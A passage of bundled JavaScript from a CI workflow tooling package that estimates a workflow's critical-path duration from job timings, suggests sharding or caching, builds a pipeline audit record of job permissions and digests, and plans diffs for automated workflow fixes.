    const history = (0,src/* decodeDocument */.w8)(historyFormat, value, source);
    const names = [...new Set(history.runs.map((r) => r.workflow))];
    const wanted = workflowName ?? (names.length === 1 ? names[0] : undefined);
    if (wanted === undefined) {
        throw new src/* UserError */.yo(`${source} holds runs of several workflows (${names.join(', ')})`, {
            hint: "give the workflow's name: field so its runs are picked",
        });
    }
    const runs = history.runs.filter((r) => r.workflow === wanted && r.conclusion === 'success');
    if (runs.length === 0)
        throw new src/* UserError */.yo(`${source} has no successful run of '${wanted}' (workflows: ${names.join(', ') || 'none'})`);
    return runs.map((r) => ({ jobs: r.jobs.filter((j) => j.attempt === r.attempt) }));
}
/** `build (2)` -> `build`, `pipeline / test (0)` -> `pipeline / test`. */
function baseName(name) {
    return name.replace(/\s*\([^()]*\)\s*$/, '').trim();
}
function measured(runs, overhead) {
    const jobs = new Map();
    const serials = new Map();
    for (const run of runs) {
        const perName = new Map();
        for (const job of run.jobs) {
            // Skipped and unfinished jobs say nothing about how long a job takes.
            if (job.startedAt === null || job.completedAt === null || job.conclusion === 'skipped' || job.conclusion === 'cancelled')
                continue;
            const s = job.completedAt - job.startedAt;
            if (!Number.isFinite(s) || s < 0)
                continue;
            const name = baseName(job.name).toLowerCase();
            perName.set(name, [...(perName.get(name) ?? []), s]);
        }
        for (const [name, durations] of perName) {
            const entry = jobs.get(name) ?? { seconds: [] };
            entry.seconds.push(Math.max(...durations));
            if (durations.length > 1) {
                // A matrix: the serial work is what the shards did beyond their fixed cost.
                serials.set(name, [...(serials.get(name) ?? []), durations.reduce((a, b) => a + Math.max(0, b - overhead), 0)]);
            }
            jobs.set(name, entry);
        }
    }
    for (const [name, values] of serials) {
        const entry = jobs.get(name);
        if (entry)
            Object.assign(entry, { serialSeconds: (0,src/* median */.JZ)(values) ?? 0, overheadSeconds: overhead });
    }
    return { jobs, source: 'measured' };
}
/**
 * Decodes a timings document: the given form `{ "jobs": { "lint": { "seconds": 90 }, "test":
 * { "serialSeconds": 720, "overheadSeconds": 60 } } }`, or measured data: a ci-metrics history
 * file (the successful runs of `workflowName`), or GitHub's list-jobs-for-a-run response (one
 * run or an array of runs).
 */
function decodeTimings(value, source, defaultOverhead = 60, workflowName) {
    if (typeof value === 'object' && value !== null && 'runs' in value && 'version' in value) {
        return measured(fromHistory(value, source, workflowName), defaultOverhead);
    }
    const isApi = typeof value === 'object' && value !== null && (Array.isArray(value) || 'total_count' in value);
    if (isApi) {
        const runs = (0,src/* decodeDocument */.w8)(apiFormat, value, source);
        if (runs.every((r) => r.jobs.length === 0))
            throw new src/* UserError */.yo(`${source}: the runs list no jobs`);
        return measured(runs.map((r) => ({
            jobs: r.jobs.map((j) => ({
                name: j.name,
                conclusion: j.conclusion,
                startedAt: unixSeconds(j.started_at),
                completedAt: unixSeconds(j.completed_at),
            })),
        })), defaultOverhead);
    }
    const doc = (0,src/* decodeDocument */.w8)(givenFormat, value, source);
    if (doc.budgetMinutes !== undefined && !(Number.isFinite(doc.budgetMinutes) && doc.budgetMinutes > 0)) {
        throw new src/* UserError */.yo(`${source}: budgetMinutes must be a positive number of minutes; got ${doc.budgetMinutes}`, {
            code: src/* errorCodes */.fv.invalidInput,
            hint: 'give the time budget in minutes, e.g. "budgetMinutes": 10, or leave it out for the default',
        });
    }
    const jobs = new Map();
    for (const [name, t] of Object.entries(doc.jobs)) {
        if (t.seconds === undefined && t.serialSeconds === undefined) {
            throw new src/* UserError */.yo(`${source}: jobs.${name}: give seconds (wall clock) or serialSeconds (for a sharded job)`);
        }
        if ([...(t.seconds ?? []), t.serialSeconds ?? 0, t.overheadSeconds ?? 0].some((n) => n < 0)) {
            throw new src/* UserError */.yo(`${source}: jobs.${name}: durations cannot be negative`);
        }
        jobs.set(name.toLowerCase(), {
            seconds: t.seconds ?? [],
            ...(t.serialSeconds !== undefined ? { serialSeconds: t.serialSeconds } : {}),
            ...(t.overheadSeconds !== undefined ? { overheadSeconds: t.overheadSeconds } : {}),
        });
    }
    return { jobs, source: 'given', ...(doc.budgetMinutes !== undefined ? { budgetMinutes: doc.budgetMinutes } : {}) };
}

;// CONCATENATED MODULE: ./packages/workflows/src/estimate/critical-path.ts

function timingFor(job, timings) {
    const names = [job.id, job.id.replace(/\//g, ' / '), ...job.aliases].map((n) => n.toLowerCase());
    for (const n of names) {
        const t = timings.jobs.get(n);
        if (t)
            return t;
    }
    return undefined;
}
/** The timings' job names that no job of the workflow answers to (by id, `caller / job` or name). */
function unusedTimings(jobs, timings) {
    const known = new Set(jobs.flatMap((j) => [j.id, j.id.replace(/\//g, ' / '), ...j.aliases].map((n) => n.toLowerCase())));
    return [...timings.jobs.keys()].filter((name) => !known.has(name));
}
const isCallWrapper = (job, all) => all.some((j) => j.id.startsWith(`${job.id}/`));
/** Duration of a job with a shard count; sharded jobs scale as overhead + serial / shards. */
function duration(t, shards) {
    if (t.serialSeconds !== undefined)
        return (t.overheadSeconds ?? 0) + t.serialSeconds / Math.max(1, shards ?? 1);
    return (0,src/* median */.JZ)(t.seconds) ?? 0;
}
/** What test-shard's plan picks for a target: the smallest count whose shard meets it, within the cap. */
function plannedShards(t, target, max) {
    for (let n = 1; n <= max; n += 1)
        if (duration(t, n) <= target)
            return n;
    return max;
}
function schedule(jobs, seconds) {
    const byId = new Map(jobs.map((j) => [j.id, j]));
    const finish = new Map();
    const start = new Map();
    const via = new Map();
    const visiting = new Set();
    const visit = (id) => {
        const done = finish.get(id);
        if (done !== undefined)
            return done;
        if (visiting.has(id))
            throw new src/* UserError */.yo(`the needs: graph has a cycle through job '${id}'`);
        visiting.add(id);
        let begin = 0;
        let from;
        for (const need of byId.get(id)?.needs ?? []) {
            const f = visit(need);
            if (from === undefined || f > begin) {
                begin = f;
                from = need;
            }
        }
        visiting.delete(id);
        start.set(id, begin);
        via.set(id, from);
        const end = begin + (seconds.get(id) ?? 0);
        finish.set(id, end);
        return end;
    };
    for (const j of jobs)
        visit(j.id);
    let last;
    for (const j of jobs)
        if (last === undefined || (finish.get(j.id) ?? 0) > (finish.get(last) ?? 0))
            last = j.id;
    const path = [];
    for (let at = last; at !== undefined; at = via.get(at))
        path.unshift(at);
    return { finish, start, seconds, path, total: last === undefined ? 0 : (finish.get(last) ?? 0) };
}
/**
 * Predicts a run's p50 duration as the longest path through the `needs:` graph, each job at its
 * p50, the sharded job at overhead + serial / shards, and says which job to shard or cache next.
 * Jobs without a timing are an error that lists them (an estimate that guesses would hide them).
 */
function estimate(jobs, timings, options) {
    const timing = new Map();
    const missing = [];
    for (const j of jobs) {
        if (isCallWrapper(j, jobs))
            continue;
        const t = timingFor(j, timings);
        if (t)
            timing.set(j.id, t);
        else
            missing.push(j.id);
    }
    if (missing.length > 0) {
        throw new src/* UserError */.yo(`no timing for job(s) ${missing.join(', ')}`, {
            hint: `add them to the timings file's "jobs" (known: ${[...timings.jobs.keys()].join(', ') || 'none'})`,
        });
    }
    const shardsOf = (j) => {
        const t = timing.get(j.id);
        if (t?.serialSeconds === undefined)
            return undefined;
        return options.shards ?? j.shards ?? (j.targetSeconds !== undefined ? plannedShards(t, j.targetSeconds, j.maxShards ?? 32) : 1);
    };
    const secondsWith = (override) => new Map(jobs.map((j) => [j.id, timing.has(j.id) ? duration(timing.get(j.id), override?.id === j.id ? override.shards : shardsOf(j)) : 0]));
    const base = schedule(jobs, secondsWith());
    const onPath = new Set(base.path);
    const estimates = jobs
        .filter((j) => !isCallWrapper(j, jobs))
        .map((j) => ({
        id: j.id,
        seconds: round(base.seconds.get(j.id) ?? 0),
        startSeconds: round(base.start.get(j.id) ?? 0),
        finishSeconds: round(base.finish.get(j.id) ?? 0),
        ...(shardsOf(j) !== undefined ? { shards: shardsOf(j) } : {}),
        onCriticalPath: onPath.has(j.id),
    }));
    const meets = base.total <= options.budgetSeconds;
    return {
        p50Seconds: round(base.total),
        budgetSeconds: options.budgetSeconds,
        meetsBudget: meets,
        criticalPath: base.path.filter((id) => !isCallWrapper(jobs.find((j) => j.id === id), jobs)),
        jobs: estimates,
        advice: advise(jobs, base, timing, options.budgetSeconds, secondsWith, shardsOf),
    };
}
function advise(jobs, base, timing, budget, secondsWith, shardsOf) {
    const onPath = base.path.filter((id) => timing.has(id)).sort((a, b) => (base.seconds.get(b) ?? 0) - (base.seconds.get(a) ?? 0));
    const longest = onPath[0];
    if (longest === undefined)
        return { action: 'none', job: '', message: 'the workflow has no timed jobs' };
    const s = (id) => round(base.seconds.get(id) ?? 0);
    if (base.total <= budget) {
        return {
            action: 'none',
            job: longest,
            message: `meets the budget with ${round(budget - base.total)} s to spare; the longest job on the critical path is '${longest}' (${s(longest)} s)`,
        };
    }
    const over = round(base.total - budget);
    for (const id of onPath) {
        const job = jobs.find((j) => j.id === id);
        if (!job || shardsOf(job) === undefined)
            continue;
        const current = shardsOf(job) ?? 1;
        for (let n = current + 1; n <= 64; n += 1) {
            if (schedule(jobs, secondsWith({ id, shards: n })).total <= budget) {
                return {
                    action: 'shard',
                    job: id,
                    shards: n,
                    message: `over budget by ${over} s: shard '${id}' into ${n} (now ${current}) to meet it`,
                };
            }
        }
    }
    const target = onPath.find((id) => timing.get(id)?.serialSeconds === undefined) ?? longest;
    return {
        action: 'cache',
        job: target,
        message: `over budget by ${over} s: '${target}' takes ${s(target)} s on the critical path; cache its dependencies and build outputs (cache-setup) or split it`,
    };
}
function round(n) {
    return Math.round(n * 10) / 10;
}

;// CONCATENATED MODULE: ./packages/workflows/src/estimate/format-estimate.ts
const minutes = (s) => `${Math.floor(s / 60)}m${String(Math.round(s % 60)).padStart(2, '0')}s`;
/** The estimate as a person reads it: verdict, critical path with each job's share, then the advice. */
function formatEstimateText(e, workflow) {
    const out = [
        `${workflow}: predicted p50 ${minutes(e.p50Seconds)} (${e.p50Seconds} s) against a budget of ${minutes(e.budgetSeconds)}: ${e.meetsBudget ? 'within budget' : 'OVER BUDGET'}`,
        '',
        'Critical path:',
    ];
    for (const id of e.criticalPath) {
        const j = e.jobs.find((x) => x.id === id);
        if (!j)
            continue;
        out.push(`  ${minutes(j.startSeconds).padStart(7)} +${String(j.seconds).padStart(6)} s  ${j.id}${j.shards !== undefined ? ` (${j.shards} shards)` : ''}`);
    }
    out.push('', `Next: ${e.advice.message}`);
    return out.join('\n') + '\n';
}

;// CONCATENATED MODULE: ./packages/workflows/src/audit-record.ts

const needsDecoder = src/* decode.record */.D4.record(src/* decode.object */.D4.object({
    result: src/* decode.string */.D4.string,
    outputs: src/* decode.withDefault */.D4.withDefault(src/* decode.record */.D4.record(src/* decode.oneOf */.D4.oneOf(src/* decode.string */.D4.string, src/* decode.map */.D4.map(src/* decode.unknown */.D4.unknown, (v) => JSON.stringify(v)))), {}),
}));
const scope = src/* decode.oneOf */.D4.oneOf(src/* decode.map */.D4.map(src/* decode.literal */.D4.literal('read-all', 'write-all'), (v) => ({ '*': v.replace('-all', '') })), src/* decode.record */.D4.record(src/* decode.literal */.D4.literal('read', 'write', 'none')));
const permissionsDecoder = src/* decode.record */.D4.record(scope);
/**
 * Builds the record from `toJSON(needs)` (results and outputs of every job before it) and the
 * permissions each job declares. A job named in one but not the other is an error: the record
 * must not claim permissions for a job it did not see, nor leave a job's out.
 */
function buildAuditRecord(run, needsJson, permissionsJson, now) {
    const needs = decodeDocument(needsDecoder, needsJson, "input 'needs'");
    const permissions = decodeDocument(permissionsDecoder, permissionsJson, "input 'job-permissions'");
    const unknown = Object.keys(needs).filter((j) => !(j in permissions));
    if (unknown.length > 0) {
        throw new UserError(`input 'job-permissions' does not list job(s) ${unknown.join(', ')}`, {
            hint: 'give every job in needs its permissions block',
        });
    }
    const jobs = {};
    const digests = {};
    let scanDecision;
    let verification;
    let reproducibility;
    for (const [id, job] of Object.entries(needs)) {
        jobs[id] = { result: job.result, permissions: permissions[id] ?? {}, outputs: job.outputs };
        for (const [name, value] of Object.entries(job.outputs)) {
            if (/digest$/.test(name) && value)
                digests[`${id}.${name}`] = value;
            if (name === 'decision' && value)
                scanDecision = value;
            if ((name === 'verified' || name === 'verification') && value)
                verification = value;
            if (name === 'reproducible' && value)
                reproducibility = { reproducible: value, hermetic: job.outputs['hermetic'] };
        }
    }
    return {
        schema: 'https://slipway.dev/audit-record/v1',
        recordedAt: now.toISOString(),
        run: { ...run, url: `${run.serverUrl}/${run.repository}/actions/runs/${run.runId}/attempts/${run.runAttempt}` },
        jobs,
        digests,
        scanDecision,
        verification,
        reproducibility,
    };
}
/** The record as a job-summary section. */
function formatAuditRecordSummary(record) {
    const md = new Markdown().heading('Pipeline audit record');
    const r = record.run;
    md.table(['Field', 'Value'], [
        ['Triggered by', `${r.actor} (${r.eventName})`],
        ['Commit', `${r.repository}@${r.sha}`],
        ['Ref', r.ref],
        ['Workflow', r.workflowRef],
        ['Run', `[${r.runId} attempt ${r.runAttempt}](${r.url})`],
        ['Scan decision', record.scanDecision ?? 'none'],
        ['Verification', record.verification ?? 'none'],
        [
            'Reproducible build',
            record.reproducibility
                ? `${record.reproducibility.reproducible} (hermetic: ${record.reproducibility.hermetic ?? 'unknown'})`
                : 'not checked',
        ],
    ]);
    const digests = Object.entries(record.digests);
    if (digests.length > 0)
        md.table(['Output', 'Digest'], digests);
    md.table(['Job', 'Result', 'Token permissions'], Object.entries(record.jobs).map(([id, j]) => [
        id,
        j.result,
        Object.entries(j.permissions)
            .map(([s, v]) => `${s}: ${v}`)
            .join(', ') || 'none',
    ]));
    return md.toString();
}

;// CONCATENATED MODULE: ./packages/workflows/src/fix/text-diff.ts
/** A unified diff of two texts by lines (three lines of context), empty when they are equal. */
function unifiedDiff(before, after, name) {
    if (before === after)
        return '';
    const a = before.split('\n');
    const b = after.split('\n');
    // Longest common subsequence table, from the end; workflow files are small enough for O(n\u00b7m).
    const lcs = Array.from({ length: a.length + 1 }, () => new Array(b.length + 1).fill(0));
    for (let i = a.length - 1; i >= 0; i -= 1)
        for (let j = b.length - 1; j >= 0; j -= 1)
            lcs[i][j] = a[i] === b[j] ? lcs[i + 1][j + 1] + 1 : Math.max(lcs[i + 1][j], lcs[i][j + 1]);
    const ops = [];
    let i = 0;
    let j = 0;
    while (i < a.length || j < b.length) {
        if (i < a.length && j < b.length && a[i] === b[j])
            ops.push({ kind: ' ', text: a[i++], ai: i, bi: ++j });
        else if (i < a.length && (j >= b.length || lcs[i + 1][j] >= lcs[i][j + 1]))
            ops.push({ kind: '-', text: a[i++], ai: i, bi: j });
        else
            ops.push({ kind: '+', text: b[j++], ai: i, bi: j });
    }
    const out = [`--- a/${name}`, `+++ b/${name}`];
    const changed = ops.map((o, k) => (o.kind === ' ' ? -1 : k)).filter((k) => k >= 0);
    let k = 0;
    while (k < changed.length) {
        const start = Math.max(0, changed[k] - 3);
        let end = changed[k] + 3;
        while (k + 1 < changed.length && changed[k + 1] <= end + 4)
            end = changed[++k] + 3;
        end = Math.min(ops.length - 1, end);
        const hunk = ops.slice(start, end + 1);
        const aStart = hunk.find((o) => o.kind !== '+')?.ai ?? hunk[0].ai;
        const bStart = hunk.find((o) => o.kind !== '-')?.bi ?? hunk[0].bi;
        const aLen = hunk.filter((o) => o.kind !== '+').length;
        const bLen = hunk.filter((o) => o.kind !== '-').length;
        out.push(`@@ -${aStart},${aLen} +${bStart},${bLen} @@`, ...hunk.map((o) => `${o.kind}${o.text}`));
        k += 1;
    }
    return `${out.join('\n')}\n`;
}

;// CONCATENATED MODULE: ./packages/workflows/src/run-audit.ts





/** The one audit orchestration the CLI and the action share: collect, audit offline, add the online findings. */
async function runAudit(request) {
    const inputs = await collectAuditInputs(request.paths, request.base);
    const extra = request.api ? await onlineFindings(inputs, request.api) : [];
    const report = await auditAll(inputs, {
        trustedOwners: request.trustedOwners,
        ...(request.forbiddenUses ? { forbiddenUses: request.forbiddenUses } : {}),
        ...(request.minConfidence ? { minConfidence: request.minConfidence } : {}),
        ...(request.advisories ? { advisories: request.advisories } : {}),
    }, extra);
    return { inputs, report };
}
/** Plans the mechanical fixes of every audited file (nothing is written here). */
async function planFixes(inputs, resolvePin, trustedOwners) {
    const out = [];
    for (const input of inputs) {
        const result = await fixFile(input.content, input.kind, { resolvePin, trustedOwners });
        out.push({
            file: input.file,
            before: input.content,
            after: result.content,
            applied: result.applied,
            skipped: result.skipped,
            diff: unifiedDiff(input.content, result.content, input.file),
        });
    }
    return out;
}

;// CONCATENATED MODULE: ./packages/workflows/src/index.ts



























/***/ })

};
